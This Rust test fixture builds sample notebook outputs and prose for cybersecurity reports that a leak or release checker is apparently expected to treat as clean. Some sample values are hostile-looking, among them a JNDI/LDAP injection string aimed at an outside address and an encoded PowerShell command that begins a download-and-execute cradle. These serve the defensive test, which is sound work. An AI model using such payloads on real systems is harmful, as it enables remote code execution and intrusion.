//! Executed notebooks that may go out, full of what looks like something else.

use crate::build::{code, complained, frame, html, plain, printed, prose, result, tagged};
use catalog::notebook::Cell;
use serde_json::{Value, json};

const SHA: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const GUID: &str = "2fd4e1c6-7a2d-4ced-849e-e1bb76e739aa";

fn told(text: &str) -> Vec<Cell> {
    vec![prose(text)]
}

fn shown(output: Value) -> Vec<Cell> {
    vec![code(vec![output])]
}

/// A name and the cells.
pub(crate) fn clean() -> Vec<(&'static str, Vec<Cell>)> {
    [results(), texts(), inputs_and_tags()].concat()
}

fn results() -> Vec<(&'static str, Vec<Cell>)> {
    let column = |name: &str, value: &str| shown(frame(&["host", name], &[&["wk-17", value]]));
    vec![
        ("hashes", column("sha256", SHA)),
        ("hashes, printed", shown(printed(&format!("{SHA}\nd41d8cd98f00b204e9800998ecf8427e\n")))),
        ("GUIDs", column("process_guid", GUID)),
        ("a GUID with the digits of a key", column("guid", "20731000-7a2d-4ced-849e-e1bb76e739aa")),
        ("base64", column("command", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")),
        ("inner addresses", column("address", "10.20.30.40")),
        ("inner addresses, printed", shown(printed("10.0.0.4 -> 192.168.7.9:445\n172.16.3.1\n"))),
        ("a number that is somebody's key", shown(printed("pid 20731 started 20731 times\n"))),
        ("a column of numbers", column("pid", "20731")),
        (
            "numbers beside the own tenant",
            shown(printed(&plain(&["tenant_id", "pid"], &[&["145483", "20731"]]))),
        ),
        ("the own key", shown(printed("hits: 3 rows, tenant 145483\n"))),
        ("the own name", shown(printed("report for Globex Europe\n"))),
        ("ids of events", column("event_id", "4625")),
        ("ids of weaknesses", column("cve", "CVE-2026-20731")),
        ("paths on hosts", column("image_path", "C:\\Users\\ana\\AppData\\Local\\Temp\\x.exe")),
        ("paths on hosts of Linux", shown(printed("/home/ana/.ssh/authorized_keys changed\n"))),
        ("a makers' name", column("signer", "Microsoft Windows")),
        ("a short name in text", column("product", "IBM WebSphere")),
        ("a word that is a customer's name", column("target", "Target machine")),
        ("a printed word that is a customer's name", shown(printed("Target hosts: 3\n"))),
        ("something to do in a file's name", column("file", "TODO.txt")),
        ("mail that is internal", column("subject", "Internal use only: salaries, do not send")),
        (
            "mail that is internal, printed",
            shown(printed(&plain(&["subject"], &[&["internal only: do not share with the customer"]]))),
        ),
        ("a traceback in telemetry", column("stdout", "Traceback (most recent call last): File x")),
        ("an address with a password in telemetry", column("url", "ftp://root:toor@203.0.113.9/x")),
        ("braces in telemetry", column("body", "{{ user }} ${jndi:ldap://203.0.113.9/a} &lt;fill in&gt;")),
        ("hexadecimal", shown(printed("0xdeadbeef 4d5a90000300000004000000ffff0000\n"))),
        ("addresses of version 6", column("address", "fd12:3456:789a::1")),
        (
            "a warning of a container",
            shown(complained("/opt/conda/lib/python3.11/site-packages/x.py:3: FutureWarning: old\n")),
        ),
        ("a warning of a kernel", shown(complained("/tmp/ipykernel_31/123.py:1: UserWarning: old\n"))),
        ("a progress bar", shown(complained("100%|██████████| 4120/4120 [00:03<00:00, 1200.11it/s]\n"))),
        (
            "a picture",
            shown(result(
                &json!({"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "text/plain": "<Figure size 640x480 with 1 Axes>"}),
            )),
        ),
        (
            "a drawing",
            shown(result(
                &json!({"image/svg+xml": "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>hosts</text></svg>"}),
            )),
        ),
        ("markdown put out", shown(result(&json!({"text/markdown": "### Hosts\n\n* wk-17 (10.4.17.2)"})))),
        ("HTML put out", shown(html("<h3>Hosts</h3><p>3 of 41</p>"))),
        (
            "nothing found",
            shown(result(
                &json!({"text/html": "<div><p>0 rows × 3 columns</p></div>", "text/plain": "Empty DataFrame\nColumns: [host]\nIndex: []"}),
            )),
        ),
        ("a list", shown(result(&json!({"text/plain": "['wk-17', 'srv-02', 'client-3']"})))),
        ("a column of clients", column("client", "wk-17.example.org")),
        ("registry keys", column("key", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")),
        ("times and numbers", shown(printed("2026-05-01T12:30:45Z 20731 145483.20731 1,020,731\n"))),
        ("a host that is called internal", shown(printed("INTERNAL-DC01  10.0.0.4\nWIP-WEB02  10.0.0.5\n"))),
        ("a GUID but for one digit", shown(printed("2F9D7A52-6B0E-4C58-9F5E-0F8A6F1F0C12\n"))),
        ("a token in an address that was asked for", column("url", "/cb?access_token=q8Zt2LxV7mRk4WpN9sYb")),
        (
            "a secret's hash",
            shown(result(&json!({"text/plain": "{'api_key': '9f86d081884c7d659a2feaa0c55ad015'}"}))),
        ),
        (
            "what is blotted out",
            shown(printed("CLIENT_SECRET = ********\napi_key=xxxxxxxxxxxxxxxxxxxxxxxx\n")),
        ),
        (
            "what a secret is not",
            shown(printed("api_version=2026-05-01 sig=none token_type=Bearer key=value\n")),
        ),
    ]
}

fn texts() -> Vec<(&'static str, Vec<Cell>)> {
    vec![
        ("what analysts note", told("Our analysts note that the count fell. Note that hosts were renamed.")),
        (
            "what is internal to a network",
            told("Internal hosts talk to internal servers; an internal-only service is not reachable."),
        ),
        ("networks", told("Private networks (10.0.0.0/8, 172.16.0.0/12 and 192.168.0.0/16) were left out.")),
        (
            "findings with addresses",
            told("## Findings\n\nwk-17 (10.4.17.2) sent 3 GB to srv-02 (192.168.7.9)."),
        ),
        (
            "recommendations",
            told(
                "## Recommendations\n\nDo not send passwords by mail. Do not share accounts. Remove the account before it is used again.",
            ),
        ),
        (
            "targets and shells",
            told("The target ran a shell; Target is what the log calls it. Apple and Oracle were not hit."),
        ),
        (
            "code with brackets",
            told(
                "The query is:\n\n```\nSELECT <column> FROM {{ table }} WHERE x = '${y}'\n```\n\nand `{{ EARLIEST }}` is the window.",
            ),
        ),
        ("shapes of numbers", told("Numbers such as XXX-XX-XXXX were looked for.")),
        (
            "HTML in markdown",
            told(
                "<details><summary>More</summary>\n\nText with <b>bold</b> and <a href=\"https://attack.mitre.org\">a link</a>.\n\n</details>",
            ),
        ),
        (
            "links and notes",
            told(
                "See [T1059](https://attack.mitre.org/techniques/T1059/)[^1] and [Customer portal](https://example.org).\n\n[^1]: A note.",
            ),
        ),
        ("comments of tools", told("<!-- markdownlint-disable MD013 -->\n\nText.\n\n<!-- toc -->")),
        ("a share of hosts", told("Of all hosts 40\n% of them were seen.\n\n40 % is much.")),
        (
            "clients and customers",
            told("Clients do not receive updates. The customer confirmed that the customer's admins ran it."),
        ),
        (
            "guidance of others",
            told(
                "The vendor's guidance says to patch. Hunters of APT groups know this; see the guide for analysts of malware.",
            ),
        ),
        ("comparison", told("1 < 2 and 3 > 2, a<b, c>d & e.")),
        ("braces in formulas", told("$$\\frac{{a}}{{b}} \\text{window}$$")),
        ("what is for internal use", told("Services that are meant for internal use must not be reachable.")),
        ("a number behind a tenant", told("In each tenant, 4625 is the event of a failed logon.")),
        ("what was hidden by others", told("The mail held `<div style=\"display:none\">` and `{user}`.")),
        ("links to trackers of makers", told("See https://jira.atlassian.com/browse/CONFSERVER-92475.")),
        ("questions", told("Who installs services??? Administrators do.")),
        ("formulas", told("$x_1 < y$ and $$\\sum_i x_i$$")),
        ("an example of an address", told("Log lines hold `https://user:password@host/` in clear.")),
        ("a hash in text", told(&format!("The file {SHA} ({GUID}) is benign."))),
        ("paths in text", told("Look at `/home/*/.ssh/authorized_keys` and `C:\\Users\\Public\\`.")),
        (
            "what is before",
            told(
                "Before sending data to the server, the malware sleeps. Delete this value from the registry to mend it.",
            ),
        ),
        (
            "removed accounts",
            told("Remove these accounts. This table is sorted by host; this section is about logons."),
        ),
    ]
}

fn inputs_and_tags() -> Vec<(&'static str, Vec<Cell>)> {
    let input = |text: &str| vec![tagged(prose(text), &["analyst_input"])];
    vec![
        ("nothing was found", input("No findings.")),
        ("nothing, in emphasis", input("*Nothing was found in this window.*")),
        ("a ticked box", input("- [x] benign\n- [ ] malicious")),
        ("a form that is filled in", input("**Host:** wk-17\n\n**Comment:**")),
        ("a table that is filled in", input("| Host | Finding |\n|---|---|\n| wk-17 | none |")),
        ("a finding with an address", input("wk-17 (10.4.17.2) ran it once; the owner confirmed.")),
        ("a finding that begins like a request", input("List of hosts:\n\n* wk-17\n* srv-02")),
        (
            "hidden inputs",
            vec![tagged(code(vec![printed("3\n")]), &["hide-input", "remove_input", "remove-input"])],
        ),
        (
            "tags of a team",
            vec![tagged(code(vec![printed("3\n")]), &["triage", "hidden_process", "parameters"])],
        ),
        (
            "guidance that is removed",
            vec![tagged(prose("Analyst note: TODO ask Initech, tenant 20731."), &["remove_cell"])],
        ),
        (
            "parts of guidance",
            vec![tagged(
                prose("## For the hunter\n\nRun this twice.\n\n## Then\n\nAsk the lead."),
                &["remove_cell"],
            )],
        ),
        (
            "errors that are removed",
            vec![tagged(code(vec![complained("/home/ana/x.py: old\n")]), &["remove_output"])],
        ),
    ]
}
